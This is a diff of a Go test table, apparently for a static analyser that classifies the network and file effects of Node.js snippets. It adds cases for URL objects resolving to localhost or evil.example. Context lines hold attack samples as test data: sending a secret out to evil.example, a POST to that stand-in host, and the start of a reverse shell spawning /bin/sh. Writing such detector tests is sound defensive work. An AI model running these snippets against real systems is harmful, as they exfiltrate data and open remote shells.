@@ -37,6 +37,11 @@ var nodeCases = []testCase{
 		"net-out http://evil.example/?… from secret")},
 	{"require('https').get('https://example.com/x', r => r.pipe(require('fs').createWriteStream('/tmp/p')))",
 		is("net-in https://example.com/x", "write /tmp/p")},
+	{"const u = new URL('/a?b=1', 'http://localhost:5000'); require('http').request({hostname: u.hostname, " +
+		"port: u.port, path: u.pathname + u.search, method: 'POST'})", is("net-out localhost:5000/a?b=1")},
+	{"const u = new URL('https://evil.example/a', 'http://localhost'); fetch(u); require('https').get({host: u.host})",
+		is("net-in https://evil.example/a", "net-in evil.example")},
+	{"const u = new URL(x, 'http://localhost'); fetch(u)", is("net-in …")},
 	{"require('http').request({host: 'evil.example', port: 80, path: '/x', method: 'POST'})",
 		is("net-out evil.example:80/x")},
 	{"var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();" +
